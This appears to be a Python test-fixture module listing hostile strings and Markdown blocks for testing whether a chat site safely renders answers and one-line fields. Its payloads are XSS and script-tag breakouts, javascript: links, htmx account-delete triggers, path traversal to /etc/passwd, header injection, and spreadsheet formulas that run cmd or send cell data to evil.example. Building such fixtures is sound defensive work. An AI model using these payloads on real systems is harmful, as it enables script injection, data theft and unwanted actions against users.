"""Texts that try to run something, to fetch something, or to be part of the page.

`BLOCKS` are Markdown as an answer could be; `LINES` fit where one line stands: a title, a name of
a file or a model, a sentence of a server. All of them name `EVIL` where they want to reach out.
"""

from __future__ import annotations

from collections.abc import Mapping

EVIL = "evil.example"
POLYGLOT = "\"'></title></textarea><img src=x onerror=evil()><b a='"
"""Breaks out of any element and attribute, and fits in the shortest column."""

LINES: Mapping[str, str] = {
    "script": "<script>alert('evil')</script>",
    "end of an element": (
        '</title></textarea></style></template></script><img src="x" onerror=evil()>'
    ),
    "attribute": '" onmouseover="evil()" autofocus onfocus=\'evil()\' x="',
    "single quotes": "' onclick='evil()' data-action='delete' hx-get='//evil.example/' '",
    "no quotes": "x onerror=evil() style=color:red hx-on:load=evil()",
    "picture": '<img src="https://evil.example/a.png" srcset="//evil.example/b.png 2x">',
    "drawing": (
        "<svg/onload=evil()><use href='//evil.example/#x'/><a xlink:href='javascript:evil()'>"
    ),
    "formula": '<math><mtext></form><form><mglyph><style></math><img src onerror="evil()">',
    "frame": "<iframe srcdoc='<script>evil()</script>'></iframe><object data=//evil.example>",
    "form": "<form action=//evil.example><input name=key formaction=javascript:evil()><button>",
    "base": "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "htmx": '<div hx-get="/account/delete/" hx-trigger="load" hx-swap-oob="true" id="thread">',
    "our own marks": '<div id="message-1" data-answer data-script="//evil.example/x.js">',
    "comment": '<!--frame {"message":1,"generation":1,"from":0,"to":9}--><!-- --!><img src=x>',
    "template": "{{ csrf_token }} {% load evil %} ${evil()} #{evil} %(evil)s {0.__class__}",
    "address": "javascript:evil()//https://evil.example/ data:text/html,<script>evil()</script>",
    "json": '</script><!--","type":"status","status":"finished"}\\u003cscript\\u003e\\',
    "entities": "&lt;script&gt; &#60;img src=x onerror=evil()&#62; &amp;lt;b&gt; &NewLine;",
    "control": "a\x00b\x08c\x0bd\x1be\x7ff\x85g\ufeffh\ufffei \ud800 <b\x0conclick=evil()>",
    "directions": "\u202egpj.live\u202c \u2066<b>\u2069 \u200f\u200e\u061c",
    "lines": "a\u2028<script>evil()</script>\u2029\r\n<b>",
    "path": "../../../etc/passwd\\..\\evil;filename*=UTF-8''%2e%2e%2fevil\r\nSet-Cookie: evil=1",
    "sum": '=HYPERLINK("https://evil.example/?"&A1)',
    "sum in disguise": "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "our marks": "\ufdd0\ufdd1\ufdd4evil\ufdd5 \x02\x03 \ue000\ue001",
}

BLOCKS: Mapping[str, str] = {
    "links": (
        "[a](javascript:evil()) [b](JaVaScRiPt:evil()) [c](data:text/html,x) "
        "[d](vbscript:x) [e](//evil.example) [f](/logout) "
        "[g](file:///etc/passwd) [h](blob:https://evil.example/x)"
    ),
    "hidden schemes": (
        "[a](java\tscript:evil()) [b](&#106;avascript:evil()) "
        "[c](\x01javascript:evil()) [d](<java\nscript:evil()>) "
        "[e](javascript&colon;evil()) [f](%6aavascript:evil())"
    ),
    "titles of links": (
        '[a](https://ok.example "on\\"click=\'x\'") [b](https://ok.example \'" '
        'onclick="evil()\') [c](https://ok.example/"onclick="evil())'
    ),
    "addresses": (
        '<javascript:evil()> https://ok.example/"onclick="evil '
        "http://ok.example/<script> javascript://ok.example/%0aevil() "
        "mailto:a@b?body=<script> <https://ok.example/'\">"
    ),
    "definitions": (
        "[h] [i][h] [k]\n\n[h]: javascript:evil()\n[i]: https://o.example 'a\" "
        "onclick=\"b'\n[k]: //evil.example"
    ),
    "pictures": (
        "![x](https://evil.example/?secret) ![y](data:image/png;base64,x) "
        "![](//evil.example/p.gif) "
        "[![z](https://evil.example/a)](https://b.example) "
        "![a](javascript:evil())"
    ),
    "picture by definition": (
        '![x][p]\n\n[p]: https://evil.example/p.png "x\\" onerror=\\"evil()"'
    ),
    "fence": '```"><script>evil()</script>\n</code></pre><script>evil()</script>\n```',
    "language of a fence": "```python onload=evil() class=x\n<b onmouseover=evil()>\n```",
    "fence that does not close": "~~~html\n<script>evil()</script>\n</pre>",
    "diagram": (
        '```mermaid\ngraph TD; A["<img src=x onerror=evil()>"]-->B; click A '
        '"javascript:evil()"\n```'
    ),
    "drawing in a fence": "```svg\n<svg onload=evil()><script>evil()</script></svg>\n```",
    "page in a fence": "```html\n<html><body onload=evil()><img src=//evil.example>\n```",
    "table": (
        "| <b> | `<i>` |\n|:--|--:|\n| <script>evil()</script> | "
        '[x](javascript:x) |\n| ![](//evil.example) | " onclick="x |'
    ),
    "formulas": (
        "$<script>evil()</script>$ $\\text{<img src=x onerror=evil()>}$ "
        "$\\href{javascript:x}{y}$ $\\style{color:red}{x}$ $\\class{evil}{x}$ "
        "\\(\\color{red}{x}\\) $\\unknown{<b>}$"
    ),
    "more formulas": (
        "$\\url{javascript:evil()}$ $\\includegraphics{//evil.example/x}$ "
        "$\\htmlId{thread}{x}$ $\\htmlData{hx-get=/x}{y}$ "
        "$\\require{html}\\cssId{evil}{x}$ $\\mathchoice{<a>}{<b>}{c}{d}$"
    ),
    "formula on its own": (
        "$$\n\\text{</math><script>evil()</script>}\n$$\n\n\\[ \\begin{array}{<b>} x "
        "\\end{array} \\]"
    ),
    "items": (
        "- [x] <input onfocus=evil() autofocus>\n- [ ] &lt;script&gt; "
        "&#60;script&#62;\n1. # <style>*{display:none}</style>"
    ),
    "notes": (
        '[^n" onclick="x] [^n]\n\n[^n]: <iframe src=//evil.example> '
        '[a](javascript:x)\n[^n" onclick="x]: y'
    ),
    "small tags": (
        "<sub onclick=evil()>a</sub> <kbd id=thread>b</kbd> <mark "
        "style='color:red'>c</mark> <br onload=evil()> <sup class=evil>d</sup> "
        "<sub\nonclick=evil()>e</sub>"
    ),
    "raw page": (
        "<div hx-get=/x hx-trigger=load id=thread name=key style=color:red>\n\n*evil*\n\n</div>"
    ),
    "raw declarations": (
        "<!doctype html><?php evil() ?><![CDATA[<script>evil()</script>]]><!ELEMENT x>"
    ),
    "raw elements": (
        "<details open ontoggle=evil()><summary>x</summary><video "
        "src=//evil.example onerror=evil()><audio src=//evil.example><meta "
        "http-equiv=refresh content='0;//evil.example'><marquee onstart=x>"
    ),
    "nested": (
        "> <script>\n> evil()\n> </script>\n> - ***<img src=x onerror=evil()>***\n"
        ">   1. `</code><b>`"
    ),
    "headings": (
        "# <img src=x onerror=evil()>\n## [x](javascript:evil()) {#thread .evil "
        "onclick=x}\n<b>\n==="
    ),
    "directions": (
        "\u202e[x](https://ok.example)\u202c \u2066<b>\u2069\n\n\u200f| a |\n|-|\n| \u202e |"
    ),
    "emphasis that overlaps": "*a **b <i>c* d** e</i> ~~<s>f~~ `g ` <u>` ***h*i**",
    "escapes": "\\<script\\>evil()\\</script\\> \\[x\\](javascript:evil()) \\`<b>\\` &bsol;<b>",
}

TEXTS: Mapping[str, str] = {**{f"line: {name}": text for name, text in LINES.items()}, **BLOCKS}
"""All of them: what fits in one line can be an answer as well."""


def storable(text: str) -> str:
    """As a database takes it: without halves of pairs, and without a zero, as the site keeps it."""
    return text.encode("utf-8", "replace").decode().replace("\x00", "\ufffd")


def harmless(text: str) -> str:
    """A text of the same shape, in which nothing means anything but the name of a variable."""
    kept = " \n{}"
    return "".join(each if each in kept else "x" for each in text)


def words_of(text: str) -> frozenset[str]:
    return frozenset(text.split())
